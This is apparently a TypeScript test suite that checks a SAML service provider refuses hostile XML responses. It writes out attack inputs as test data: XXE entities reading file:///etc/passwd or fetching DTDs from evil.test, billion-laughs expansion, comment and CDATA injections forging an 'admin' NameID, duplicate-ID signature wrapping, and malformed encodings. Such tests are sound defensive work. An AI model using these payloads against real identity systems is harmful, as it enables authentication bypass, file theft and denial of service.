// Hostile responses: markup that a signature does not see, or that parsers read differently, in every place where it
// could matter. The names of the refusals are stated here.
import { encryptedElement, encryptXml, responseXml, signXml } from '../../support/saml-idp.ts';
import { KEYS, parts, signed, unsigned } from './company.ts';
import { type Case, refuses } from './refuses.ts';

const sp = { certificate: KEYS.sp.certificate };
const ACS = 'https://drawbridge.test/sso/saml/acme/acs';

/** Text of a signed response -> where something is put into it. */
const TEXT_PLACES: Readonly<Record<string, string>> = {
  'the NameID': '>ali|ce<',
  'the audience': '/acme/meta|data</saml:Audience>',
  'the issuer': 'idp.acme|.test/metadata</saml:Issuer><ds:Signature',
  "the response's issuer": 'idp.acme|.test/metadata</saml:Issuer><samlp:Status>',
  'an attribute value': '>engin|eering<',
  'the context class': ':classes:|Password<',
  'the digest value': '<ds:DigestValue>|',
  'the signature value': '<ds:SignatureValue>|',
  'the certificate': '<ds:X509Certificate>|',
  'the signed info': '<ds:SignedInfo>|',
  'the reference': '|</ds:Reference>',
  'the conditions': '|</saml:Conditions>',
  'the assertion': '|</saml:Assertion>',
  'the status': '<samlp:Status>|',
  'the response': '|</samlp:Response>',
};
const ATTRIBUTE_PLACES: Readonly<Record<string, string>> = {
  'the recipient': `Recipient="${ACS}|"`,
  'the destination': `Destination="${ACS}|"`,
  'the ID': ' ID="_assertion-1|"',
  'the answered request': 'InResponseTo="_request-1|"',
  'the status code': 'status:Success|"',
  'the reference': 'URI="#_assertion-1|"',
  'the algorithm': 'rsa-sha256|"',
  'the name of an attribute': 'Name="groups|"',
  'the end': 'NotOnOrAfter="2026-11-21T12:05:00Z|"',
  'a namespace': 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol|"',
};

function put(what: string, place: string, xml: string): string {
  const plain = place.replace('|', '');
  if (!xml.includes(plain)) throw new Error(`no ${plain}`);
  return xml.replace(plain, () => place.replace('|', what));
}

const document = signed();
const inside = (what: string, refusal: Case[1], places = TEXT_PLACES): Case[] =>
  Object.entries(places).map(([where, place]): Case => [`in ${where}`, refusal, () => put(what, place, document)]);

refuses('a comment', inside('<!---->', 'comment'));
refuses('a comment with markup in it', inside('<!-- </saml:NameID><saml:NameID>admin -->', 'comment'));
refuses('a processing instruction', inside('<?x admin?>', 'processing_instruction'));
refuses('an XML declaration', inside('<?xml version="1.0"?>', 'processing_instruction'));
refuses('a document type', inside('<!DOCTYPE x [<!ENTITY y "z">]>', 'doctype'));
refuses('an entity declaration', inside('<!ENTITY y "z">', 'entity'));
refuses('an element declaration', inside('<!ELEMENT y ANY>', 'doctype'));
refuses('a parameter entity', inside('<!ENTITY % y SYSTEM "https://evil.test/y.dtd">', 'entity'));
refuses('an entity', inside('&admin;', 'entity'));
refuses('a parameter entity reference behind an ampersand', inside('&%admin;', 'entity'));
refuses('an entity in an attribute', inside('&admin;', 'entity', ATTRIBUTE_PLACES));
refuses('an ampersand in an attribute', inside('&', 'entity', ATTRIBUTE_PLACES));
refuses('a control character', inside('\u0008', 'malformed'));
refuses('a reference to no character', inside('&#xFFFE;', 'malformed'));
refuses('a reference to half a surrogate pair', inside('&#xD800;', 'malformed'));
refuses('a tag that is never closed', inside('<x>', 'malformed'));
refuses('an end tag too many', inside('</x>', 'malformed'));
refuses('a lower-than sign in an attribute', inside('<', 'malformed', ATTRIBUTE_PLACES));

const doctype = (subset: string) => document.replace('<samlp:Response', () => `<!DOCTYPE r ${subset}><samlp:Response`);

refuses('a document type declaration', [
  ['with a parameter entity', 'doctype', () => doctype('[<!ENTITY % x "<!ENTITY y \'z\'>">%x;]')],
  ['with an external parameter entity', 'doctype', () => doctype('[<!ENTITY % x SYSTEM "https://evil.test/x">%x;]')],
  ['with an external subset and a public name', 'doctype', () => doctype('PUBLIC "-//X//Y" "https://evil.test/x"')],
  ['with default attributes', 'doctype', () => doctype('[<!ATTLIST r ID ID "_assertion-1">]')],
  ['with a file that is read and sent away', 'doctype', () => doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]')],
  ['with a quadratic blow-up', 'doctype', () => doctype(`[<!ENTITY x "${'a'.repeat(50_000)}">]`)],
  [
    'with a billion laughs, used',
    'doctype',
    () => put('&c;', TEXT_PLACES['the NameID'] as string, doctype('[<!ENTITY a "ha"><!ENTITY c "&a;&a;&a;&a;&a;">]')),
  ],
  ['behind an XML declaration', 'doctype', () => `<?xml version="1.0"?>${doctype('[]')}`],
  ['with a blank in its name', 'doctype', () => document.replace('<samlp:Response', '<! DOCTYPE r><samlp:Response')],
  [
    'in a comment that is not one',
    'doctype',
    () => document.replace('<samlp:Response', '<!-DOCTYPE r-><samlp:Response'),
  ],
]);

refuses('CDATA', [
  [
    'hiding an end tag',
    'digest_mismatch',
    () => put('<![CDATA[</saml:NameID><saml:NameID>admin]]>', TEXT_PLACES['the NameID'] as string, document),
  ],
  ['that is never closed', 'malformed', () => put('<![CDATA[', TEXT_PLACES['the NameID'] as string, document)],
  ['in lower case', 'doctype', () => put('<![cdata[x]]>', TEXT_PLACES['the NameID'] as string, document)],
  ['around the whole document', 'doctype', () => `<![CDATA[${document}]]>`],
  ['in the signature value', 'signature_shape', () => put('<![CDATA[A]]>', '<ds:SignatureValue>|', document)],
]);

const RELATIVE = ['1', 'relative', '../up', '#here', '//host/path', 'no scheme: blank', ' '];

refuses('namespaces', [
  ...RELATIVE.flatMap((uri): Case[] => [
    [
      `"${uri}" on the response`,
      'namespace_invalid',
      () => document.replace('<samlp:Response', `<samlp:Response xmlns:ns="${uri}"`),
    ],
    [
      `"${uri}" on the assertion, signed with it`,
      'namespace_invalid',
      () => signXml(unsigned().replace('<saml:Subject>', `<saml:Subject><x xmlns="${uri}"/>`), { key: KEYS.idp }),
    ],
    [
      `"${uri}" in the plaintext`,
      'namespace_invalid',
      () =>
        encryptXml(
          signXml(unsigned().replace('<saml:Subject>', `<saml:Subject xmlns:ns="${uri}">`), { key: KEYS.idp }),
          sp,
        ),
    ],
  ]),
  ['a prefix taken back', 'namespace_invalid', () => document.replace('<saml:Subject>', '<saml:Subject xmlns:xs="">')],
  [
    'an element with a prefix that nobody declares',
    'namespace_invalid',
    () => document.replace('<samlp:Status>', '<no:x/>$&'),
  ],
  [
    'an attribute with a prefix that nobody declares',
    'namespace_invalid',
    () => document.replace(' Version="2.0"', ' no:x="1"$&'),
  ],
  [
    'the prefix xml bound anew',
    'namespace_invalid',
    () => document.replace('<saml:Subject>', '<saml:Subject xmlns:xml="urn:x">'),
  ],
  [
    'another prefix for the namespace of xml',
    'namespace_invalid',
    () => document.replace('<saml:Subject>', '<saml:Subject xmlns:x="http://www.w3.org/XML/1998/namespace">'),
  ],
  [
    'the namespace of declarations as the default',
    'namespace_invalid',
    () => document.replace('<saml:Subject>', '<saml:Subject xmlns="http://www.w3.org/2000/xmlns/">'),
  ],
  [
    'one attribute by two prefixes',
    'malformed',
    () => document.replace('<saml:Subject>', '<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:y="1" b:y="2">'),
  ],
  [
    'the assertion in the default namespace of something else',
    'assertion_position',
    () => document.replaceAll('saml:Assertion', 'Assertion').replace('<Assertion', '<Assertion xmlns="urn:x"'),
  ],
  [
    'the prefixes of protocol and assertion exchanged',
    'not_a_response',
    () =>
      document
        .replaceAll('samlp:', 'tmp:')
        .replaceAll('saml:', 'samlp:')
        .replaceAll('tmp:', 'saml:')
        .replace('xmlns:samlp=', 'xmlns:t=')
        .replace('xmlns:saml=', 'xmlns:samlp=')
        .replace('xmlns:t=', 'xmlns:saml=')
        .replaceAll('SAML:2.0:protocol', 'SAML:2.0:other'),
  ],
  [
    'an ID in another namespace instead of its own',
    'id_invalid',
    () => document.replace(' ID="_response-1"', ' xmlns:x="urn:x" x:ID="_response-1"'),
  ],
  [
    'InResponseTo in another namespace',
    'unsolicited',
    () => signed({ inResponseTo: null }).replace(' Version="2.0"', ' xmlns:x="urn:x" x:InResponseTo="_request-1"$&'),
  ],
  [
    'the version in another namespace',
    'version',
    () => document.replace(' Version="2.0"', ' xmlns:x="urn:x" x:Version="2.0"'),
  ],
  [
    'an assertion of SAML 1.1 beside the signed one',
    'assertion_count',
    () => document.replace('<samlp:Status>', '<old:Assertion xmlns:old="urn:oasis:names:tc:SAML:1.0:assertion"/>$&'),
  ],
]);

const xml = document;
refuses('identifiers', [
  ...['Id', 'id', 'iD', 'ID', 'xml:id', 'w:Id', 'w:ID'].map(
    (name): Case => [
      `the assertion's ID as ${name} on another element`,
      'duplicate_id',
      () => xml.replace('<samlp:Status>', `<w:x xmlns:w="urn:w" ${name}="_assertion-1"/>$&`),
    ],
  ),
  ...['Id', 'id', 'xml:id'].map(
    (name): Case => [
      `two IDs on the assertion, the other as ${name}`,
      'duplicate_id',
      () => xml.replace(' ID="_assertion-1"', ` ${name}="_assertion-1"$&`),
    ],
  ),
  ...['', ' ', '_a b', "_a'b", '_a"b'.replace('"', '&quot;'), '_a&lt;b', '_a/b', '#_a', `_${'a'.repeat(256)}`].map(
    (id): Case => [`"${id.slice(0, 12)}" as the response's ID`, 'id_invalid', () => signed({ responseId: id })],
  ),
]);

const deep = (count: number, name = 'x') => `${`<${name}>`.repeat(count)}${`</${name}>`.repeat(count)}`;
const before = (what: string) => xml.replace('<samlp:Status>', () => `${what}<samlp:Status>`);

refuses('size', [
  ['nested 24 deep', 'too_complex', () => before(deep(24))],
  ['nested 100,000 deep', 'too_complex', () => before(deep(100_000))],
  ['nested deep in the plaintext', 'decryption_failed', () => responseXml(parts(), encryptedElement(deep(1000), sp))],
  ['10,000 elements', 'too_complex', () => before('<x/>'.repeat(10_000))],
  ['10,000 assertions', 'too_complex', () => before('<saml:Assertion/>'.repeat(10_000))],
  ['1,000 assertions', 'assertion_count', () => before('<saml:Assertion/>'.repeat(1000))],
  [
    '1,000 signatures',
    'signature_position',
    () => before('<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>'.repeat(1000)),
  ],
  ['33 attributes', 'too_complex', () => before(`<x ${Array.from({ length: 33 }, (_, i) => `a${i}=""`).join(' ')}/>`)],
  [
    '33 namespaces',
    'too_complex',
    () => before(`<x ${Array.from({ length: 33 }, (_, i) => `xmlns:a${i}="urn:a"`).join(' ')}/>`),
  ],
  ['a megabyte of blanks', 'too_large', () => xml + ' '.repeat(1024 * 1024)],
  ['a megabyte in one attribute', 'too_large', () => before(`<x y="${'z'.repeat(1024 * 1024)}"/>`)],
  ['a name of half a megabyte that is not closed', 'malformed', () => before(`<${'x'.repeat(500_000)}`)],
  ['half a megabyte of lower-than signs', 'malformed', () => '<'.repeat(500_000)],
  ['half a megabyte of ampersands', 'entity', () => before('&'.repeat(500_000))],
  ['half a megabyte of quotes in a tag', 'malformed', () => before(`<x ${'"'.repeat(500_000)}`)],
  ['half a megabyte of blanks in a tag', 'malformed', () => before(`<x${' '.repeat(500_000)}`)],
  ['half a megabyte of CDATA that is not closed', 'malformed', () => before('<![CDATA['.repeat(50_000))],
]);

const bytes = Buffer.from(xml);
const spliced = (...inserted: number[]) => {
  const at = bytes.indexOf('>alice<') + 4;
  return Buffer.concat([bytes.subarray(0, at), Buffer.from(inserted), bytes.subarray(at)]);
};

refuses('encodings', [
  ['UTF-16 with a little-endian mark', 'encoding', () => Buffer.from(`\ufeff${xml}`, 'utf16le')],
  ['UTF-16, declared', 'encoding', () => `<?xml version="1.0" encoding="UTF-16"?>${xml}`],
  ['UTF-32', 'encoding', () => Buffer.concat([...xml].map((one) => Buffer.from([0, 0, 0, one.charCodeAt(0) & 0xff])))],
  ['EBCDIC declared', 'encoding', () => `<?xml version="1.0" encoding="IBM037"?>${xml}`],
  ['Windows-1252 declared', 'encoding', () => `<?xml version="1.0" encoding="windows-1252"?>${xml}`],
  ['an encoding without a name', 'malformed', () => `<?xml version="1.0" encoding=""?>${xml}`],
  ['version 1.1', 'malformed', () => `<?xml version="1.1" encoding="UTF-8"?>${xml}`],
  ['no version', 'malformed', () => `<?xml encoding="UTF-8"?>${xml}`],
  ['two declarations', 'processing_instruction', () => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`],
  ['a declaration behind a blank', 'processing_instruction', () => ` <?xml version="1.0"?>${xml}`],
  ['two byte order marks', 'not_one_root', () => Buffer.concat([Buffer.from('\ufeff\ufeff'), bytes])],
  ['a no-break space before the document', 'not_one_root', () => `\u00a0${xml}`],
  ['a no-break space behind the document', 'not_one_root', () => `${xml}\u00a0`],
  ['a no-break space between attributes', 'malformed', () => xml.replace(' Version=', '\u00a0Version=')],
  ['a line separator in a tag', 'malformed', () => xml.replace('<saml:Subject>', '<saml:Subject\u2028>')],
  ['an ideographic space in an end tag', 'malformed', () => xml.replace('</saml:Subject>', '</saml:Subject\u3000>')],
  ['a byte order mark of UTF-16 before UTF-8', 'encoding', () => Buffer.concat([Buffer.from([0xff, 0xfe]), bytes])],
  ['an overlong slash', 'encoding', () => spliced(0xc0, 0xaf)],
  ['an overlong zero', 'encoding', () => spliced(0xc0, 0x80)],
  ['half a surrogate pair in UTF-8', 'encoding', () => spliced(0xed, 0xa0, 0x80)],
  ['a character beyond Unicode', 'encoding', () => spliced(0xf4, 0x90, 0x80, 0x80)],
  ['a lone continuation byte', 'encoding', () => spliced(0x80)],
  ['a character cut off', 'encoding', () => spliced(0xe2, 0x82)],
  ['a zero byte', 'encoding', () => spliced(0)],
  ['a zero byte behind the document', 'encoding', () => Buffer.concat([bytes, Buffer.from([0])])],
  ['a noncharacter', 'malformed', () => spliced(0xef, 0xbf, 0xbf)],
  ['an escape character', 'malformed', () => spliced(0x1b)],
  ['a form feed', 'malformed', () => spliced(0x0c)],
  ['an invisible character in the NameID', 'digest_mismatch', () => spliced(0xe2, 0x80, 0x8b)],
  ['a letter of another script in the NameID', 'digest_mismatch', () => spliced(0xd0, 0xb0)],
]);
